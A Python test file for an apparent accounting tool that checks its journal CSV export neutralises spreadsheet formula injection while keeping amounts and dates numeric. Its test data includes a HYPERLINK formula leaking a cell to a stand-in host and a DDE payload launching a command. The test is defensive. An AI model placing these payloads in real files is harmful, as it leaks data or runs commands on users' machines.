"""Formula injection in exports (OWASP CSV injection): text a spreadsheet would run as a formula
is neutralised in the journal CSV, while amounts and dates stay plain numbers.

There is no XLSX export in fundtrack yet (the ILPA workbook is planned): when it lands, its
text cells need the same test.
"""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal

from fundtrack.ledger.journal import TransferDraft, post_many
from fundtrack.ledger.statements import parse_statement
from fundtrack.services.exports import export_journal

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "'=already quoted",
]


def test_formula_text_is_neutralised_and_numbers_stay_numbers(demo_db, tmp_path):
    drafts = [
        TransferDraft(
            date=dt.date(2026, 10, 20),
            kind="contribution",
            from_code="LP-FISCAL",
            to_code="PARENT",
            amount=Decimal(1000 + i) + Decimal("0.25"),
            reference=text,
            memo=text,
        )
        for i, text in enumerate(FORMULAS)
    ]
    with demo_db.write() as session:
        post_many(session, drafts, actor="test")
    out = tmp_path / "journal.csv"
    export_journal(demo_db, out)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    by_memo = {row["memo"]: row for row in rows}
    for i, text in enumerate(FORMULAS):
        row = by_memo["'" + text]  # exactly one leading apostrophe: shown as text, never run
        assert row["reference"].startswith("'"), row["reference"]
        # Amounts and dates are plain, so a spreadsheet still sums them.
        assert row["amount"] == f"{1000 + i}.25"
        assert Decimal(row["amount"]) == Decimal(1000 + i) + Decimal("0.25")
        assert dt.date.fromisoformat(row["date"]) == dt.date(2026, 10, 20)
    # No text cell anywhere in the file starts like a formula.
    text_columns = ("from", "to", "reference", "memo")
    for row in rows:
        for column in text_columns:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
        Decimal(row["amount"])  # every amount parses as a number
        assert not row["amount"].startswith("'")
    # And the importer reads the file back to the original text (the prefix comes off again).
    statement = parse_statement("journal.csv", out.read_bytes())
    memos = {r.draft.memo for r in statement.rows if r.draft is not None}
    assert set(FORMULAS) <= memos
